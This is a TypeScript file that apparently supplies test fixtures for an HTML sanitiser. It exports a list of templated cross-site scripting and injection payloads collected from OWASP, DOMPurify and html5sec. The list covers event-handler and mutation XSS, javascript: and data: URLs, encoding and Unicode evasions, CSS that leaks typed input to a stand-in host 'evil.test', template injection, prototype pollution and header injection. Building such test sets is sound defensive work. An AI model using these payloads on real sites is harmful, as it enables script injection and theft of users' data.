/**
 * Texts that attackers enter to run script or to make a browser call them (R9). Each is made for one cell of a table:
 * `act` is script that reports its run, such as `ran(7)`, `host` an attacker's address without its scheme, such as
 * `evil.test/7`. Both have no quotes, so that they work anywhere. Collected from OWASP's filter evasion sheet, the
 * cases of DOMPurify, html5sec.
 */
export type HostileText = readonly [name: string, text: (act: string, host: string) => string];

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const wide = (text: string): string => text.replace(/[!-~]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0));

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ['a picture that fails', (act) => `<img src=x onerror=${act}>`],
  ['a script', (act) => `<script>${act}</script>`],
  ['a script of elsewhere, out of an attribute', (_act, host) => `"><script src=//${host}></script><b title="`],
  ['a script inside a script', (act) => `</script><script>${act}</script>`],
  ['a drawing that loads', (act) => `</style></title></textarea><svg/onload=${act}>`],
  ['a script in a drawing', (act) => `<svg><script>/*<![CDATA[*/${act}/*]]>*/</script><script href="data:text/javascript,${act}"/></svg>`],
  [
    'an address that a drawing sets later',
    (act) =>
      `<svg><a><animate attributeName=href values=javascript:${act} /><set attributeName=onclick to=${act} /><text>x</text></a></svg>`,
  ],
  [
    'a drawing that borrows another',
    (act, host) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${act}'/></svg>#x"/><image href="//${host}"/></svg>`,
  ],
  [
    'a formula’s link',
    (act) => `<math href=javascript:${act}><maction actiontype=statusline xlink:href=javascript:${act}>x</maction></math>`,
  ],
  [
    'a formula whose style ends elsewhere when it is written again',
    (act) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  ],
  [
    'forms in forms that are read another way the second time',
    (act) => `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${act}>`,
  ],
  ['what is text only where scripts are off', (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`],
  ['a drawing whose style is markup', (act) => `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`],
  [
    'what lies in a template',
    (act) =>
      `<template><img src=x onerror=${act}></template><div><template shadowrootmode=open><img src=x onerror=${act}></template></div>`,
  ],
  [
    'a frame with its page inside',
    (act, host) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe><iframe src=//${host}></iframe>`,
  ],
  ['objects and embedded things', (act, host) => `<object data=javascript:${act}></object><embed src=//${host}><applet code=x>`],
  [
    'the page’s own base, refresh and styles',
    (act, host) => `<base href=//${host}/><meta http-equiv=refresh content="0;url=javascript:${act}"><link rel=stylesheet href=//${host}>`,
  ],
  [
    'handlers that nobody has to touch',
    (act) =>
      `<details open ontoggle=${act}><input autofocus onfocus=${act}><video><source onerror=${act}></video><marquee onstart=${act}><slot onslotchange=${act}></slot>`,
  ],
  [
    'handlers of an effect',
    (act) => `<style>@keyframes k{}</style><xss style="animation-name:k" onanimationstart="${act}"></xss><p popover onbeforetoggle=${act}>`,
  ],
  [
    'a form that leads to a script',
    (act, host) =>
      `<form action=javascript:${act}><button formaction=javascript:${act} autofocus>x</button></form><a ping=//${host} href=javascript:${act}>x</a>`,
  ],
  ['out of double quotes', (act) => `" onmouseover="${act}" autofocus onfocus="${act}" x="`],
  ['out of single quotes', (act) => `' onmouseover='${act}' autofocus onfocus='${act}' x='`],
  ['out of no quotes at all', (act) => `x onerror=${act} autofocus onfocus=${act} \``],
  ['out of a comment and of character data', (act) => `--><!]]>--!><img src=x onerror=${act}><!--`],
  ['an address that is script', (act) => `javascript:${act}`],
  ['the same with signs that browsers leave out', (act) => ` \u0001\tJaVa\nScRiPt:${act}//`],
  ['the same as entities', (act) => `&#106;avascript&colon;${act}&NewLine;&lt;img src=x onerror=${act}&gt;`],
  ['the same as per cent', (act) => `%6Aavascript:${act}//%3Cscript%3E${act}%3C/script%3E`],
  ['another language’s address', (act) => `vbscript:${act}`],
  ['a page as an address', (act) => `data:text/html,<script>parent.${act}</script>`],
  ['a page as an address, encoded', (act) => `data:text/html;x=${act};base64,${base64(`<script>parent.${act}</script>`)}`],
  ['a drawing as an address', (act) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`],
  ['an address of theirs', (_act, host) => `//${host}`],
  ['an address of theirs, disguised', (_act, host) => `http:\\\\${host}`],
  ['a style that was script once', (act, host) => `x:expression(${act});-moz-binding:url(//${host});behavior:url(//${host})`],
  [
    'a style that calls',
    (_act, host) =>
      `red;background:url(//${host})}*{background:url(//${host})}@import "//${host}";@font-face{font-family:x;src:url(//${host})}`,
  ],
  ['a style that spells what is typed', (_act, host) => `</style><style>input[value^=a]{background:url(//${host})}`],
  [
    'names that hide those of a document',
    (act) =>
      `<form id=poptin name=body><input name=attributes><input name=parentNode><input name=removeAttributeNode onfocus=${act} autofocus><img name=getElementById><a id=poptinCustomer href=javascript:${act}>x</a>`,
  ],
  [
    'signs that look like others',
    (act) => `${wide('<script>')}${act}${wide('</script>')}<\u017fcript>${act}</\u017fcript><\u0131mg src=x onerror=${act}>`,
  ],
  ['signs that are not seen', (act) => `java\u200bscript:${act}\u202e<\u2060script>${act}</script>\ufeff`],
  ['a sign of nothing in between', (act) => `<scr\0ipt>${act}</scr\0ipt><img src=x on\0error=${act}>java\0script:${act}`],
  ['script’s own escapes', (act) => `\\u003cimg src=x onerror=${act}\\u003e\\x3cscript\\x3e${act}//`],
  ['out of a script’s words', (act) => `';${act};//";${act};//\`;${act};//\${${act}}\u2028${act}`],
  [
    'tags of ours and of other templates',
    (act) => `{{url.x}}{{constructor}}{{__proto__}}{{constructor.constructor('${act}')()}}{%${act}%}<%=${act}%>\${${act}}`,
  ],
  ['what pollutes', (act) => `{"__proto__":{"onerror":"${act}","polluted":1},"constructor":{"prototype":{"polluted":1}}}`],
  ['lines of a header', (act) => `x\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\n\r\n<script>${act}</script>`],
];
